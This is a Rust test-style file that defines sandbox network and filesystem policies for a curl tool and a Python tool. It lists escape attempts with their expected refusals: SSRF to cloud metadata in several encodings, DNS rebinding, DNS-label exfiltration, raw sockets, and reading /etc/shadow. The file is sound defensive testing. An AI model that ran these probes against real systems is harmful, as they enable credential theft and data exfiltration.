//! What the tools of the demo try.

/// What must come of an attempt.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Expected {
    /// It works by a rule.
    Allowed,
    /// The kernel hooks refuse it for this reason.
    Refused(&'static str),
    /// It fails, no hook is asked; this is what stands in the way.
    Absent(&'static str),
    /// It works, and there is nothing to refuse.
    Shown(&'static str),
}

/// One attempt.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Attempt {
    /// Who.
    pub(crate) tool: &'static str,
    /// What, in a few words.
    pub(crate) what: &'static str,
    /// Arguments of the tool: a URL for `weather`, a line of Python for `notebook`.
    pub(crate) argument: &'static str,
    /// What must come of it.
    pub(crate) expected: Expected,
    /// Where a packet would be seen.
    pub(crate) address: &'static str,
}

const fn weather(
    what: &'static str,
    url: &'static str,
    address: &'static str,
    expected: Expected,
) -> Attempt {
    Attempt {
        tool: "weather",
        what,
        argument: url,
        expected,
        address,
    }
}

const fn notebook(
    what: &'static str,
    code: &'static str,
    address: &'static str,
    expected: Expected,
) -> Attempt {
    Attempt {
        tool: "notebook",
        what,
        argument: code,
        expected,
        address,
    }
}

const NOWHERE: &str = "";
use Expected::{Absent, Allowed, Refused, Shown};

/// The policy of the tool that is curl.
pub(crate) const WEATHER: &str = r#"
version = 1
tool = "weather"
description = "Fetches forecasts"

[worker]
command = ["/usr/bin/curl", "--silent", "--show-error", "--max-time", "4", "--cacert", "{scratch}/world.crt"]
protocol = "exec"
environment = { LANG = "C.UTF-8" }

[[egress.allow]]
cidr = "93.184.216.34/32"
ports = [443]

[[egress.allow]]
cidr = "185.199.108.0/22"
ports = [80]

[[egress.allow]]
cidr = "2606:2800:220:1::/64"
ports = [443]

[[egress.allow_private]]
cidr = "10.20.0.5/32"
protocol = "tcp"
ports = [8080]
reason = "the forecast cache of this site"

[[egress.allow]]
domain = "site.example"
ports = [443]

[[egress.allow]]
domain = "rebind.example"
ports = [443]

[filesystem]
read = ["/usr", "/etc/ssl", "{scratch}"]
execute = ["/usr/bin"]
"#;

/// The policy of the tool that is Python.
pub(crate) const NOTEBOOK: &str = r#"
version = 1
tool = "notebook"
description = "Runs a line of Python"

[worker]
command = ["/usr/bin/python3", "-c"]
protocol = "exec"
environment = { LANG = "C.UTF-8" }

[[egress.allow]]
cidr = "93.184.216.34/32"
protocol = "udp"
ports = [9000]

[[egress.allow]]
domain = "site.example"
ports = [443]

[[egress.allow]]
domain = "*.wild.example"
ports = [443]

[filesystem]
read = ["/usr"]
execute = ["/usr/bin"]

[syscalls]
profile = "interpreter"
"#;

/// Everything that is tried, in order.
pub(crate) const ATTEMPTS: &[Attempt] = &[
    weather(
        "https to a listed address",
        "https://93.184.216.34/",
        "93.184.216.34",
        Allowed,
    ),
    weather(
        "http to a listed prefix",
        "http://185.199.110.7/",
        "185.199.110.7",
        Allowed,
    ),
    weather(
        "https over ipv6",
        "https://[2606:2800:220:1::34]/",
        "2606:2800:220:1::34",
        Allowed,
    ),
    weather(
        "a private address behind a door",
        "http://10.20.0.5:8080/",
        "10.20.0.5",
        Allowed,
    ),
    weather(
        "another host",
        "https://1.2.3.4/",
        "1.2.3.4",
        Refused("not_allowed"),
    ),
    weather(
        "another port of a listed host",
        "http://93.184.216.34:8080/",
        "",
        Refused("not_allowed"),
    ),
    weather(
        "cloud metadata",
        "http://169.254.169.254/latest/meta-data/",
        "169.254.169.254",
        Refused("private_address"),
    ),
    weather(
        "the same, v4-mapped",
        "http://[::ffff:169.254.169.254]/",
        "169.254.169.254",
        Refused("private_address"),
    ),
    weather(
        "the same inside nat64",
        "http://[64:ff9b::a9fe:a9fe]/",
        "64:ff9b::a9fe:a9fe",
        Refused("private_address"),
    ),
    weather(
        "a private network",
        "http://192.168.1.1/",
        "192.168.1.1",
        Refused("private_address"),
    ),
    weather(
        "the agent's own metrics",
        "http://127.0.0.1:9464/metrics",
        NOWHERE,
        Refused("local_address"),
    ),
    weather(
        "this host by its own address",
        "http://45.33.32.2:9464/metrics",
        NOWHERE,
        Refused("local_address"),
    ),
    weather(
        "a listed name",
        "https://site.example/",
        "104.16.1.1",
        Allowed,
    ),
    weather(
        "a name that is not listed",
        "https://secrets.strange.example/",
        NOWHERE,
        Refused("name_not_allowed"),
    ),
    weather(
        "a listed name that rebinds to metadata",
        "https://rebind.example/",
        "169.254.169.254",
        Refused("private_answer"),
    ),
    notebook(
        "udp to a listed address",
        "import socket as s; u=s.socket(2,2); u.settimeout(2); u.sendto(b'hello',('93.184.216.34',9000)); print('echo:',u.recv(99).decode())",
        "93.184.216.34",
        Allowed,
    ),
    notebook(
        "a question to a public resolver",
        "import socket as s; u=s.socket(2,2); u.settimeout(2); q=b'\\0\\7\\1\\0\\0\\1'+bytes(6)+b'\\7secrets\\7strange\\7example\\0\\0\\1\\0\\1'; u.sendto(q,('8.8.8.8',53)); exit('answered with code %d' % (u.recv(999)[3]&15))",
        "8.8.8.8",
        Refused("name_not_allowed"),
    ),
    notebook(
        "another site on the address of a listed one",
        "import socket as s, ssl; c=ssl._create_unverified_context(); c.wrap_socket(s.create_connection(('site.example',443),4),server_hostname='other.example'); print('reached')",
        NOWHERE,
        Refused("tls_name"),
    ),
    notebook(
        "300 labels of a secret under a listed wildcard",
        "import socket as s, os, sys\nbad=0\nfor i in range(300):\n try: s.getaddrinfo(os.urandom(20).hex()+'.wild.example',443)\n except OSError: bad+=1\nsys.exit('%d of 300 refused' % bad)",
        NOWHERE,
        Refused("name_budget"),
    ),
    notebook(
        "udp elsewhere",
        "import socket as s; s.socket(2,2).sendto(b'hello',('8.8.8.8',9000))",
        "8.8.8.8",
        Refused("not_allowed"),
    ),
    notebook(
        "listen on a port",
        "import socket as s; t=s.socket(); t.bind(('0.0.0.0',8000)); t.listen(); print('listening')",
        NOWHERE,
        Refused("bind_port"),
    ),
    notebook(
        "a raw socket",
        "import socket as s; s.socket(2,3,1); print('made')",
        NOWHERE,
        Absent("seccomp: no such socket"),
    ),
    notebook(
        "mptcp",
        "import socket as s; s.socket(2,1,262); print('made')",
        NOWHERE,
        Absent("seccomp: no such socket"),
    ),
    notebook(
        "read the host's passwords",
        "print(open('/etc/shadow').read())",
        NOWHERE,
        Absent("not in the worker's root"),
    ),
    notebook(
        "write beside the programs",
        "open('/usr/bin/curl2','w')",
        NOWHERE,
        Absent("read-only root, landlock"),
    ),
    notebook(
        "see other processes",
        "import os; print(sorted(p for p in os.listdir('/proc') if p.isdigit()))",
        NOWHERE,
        Shown("a pid namespace of its own"),
    ),
];
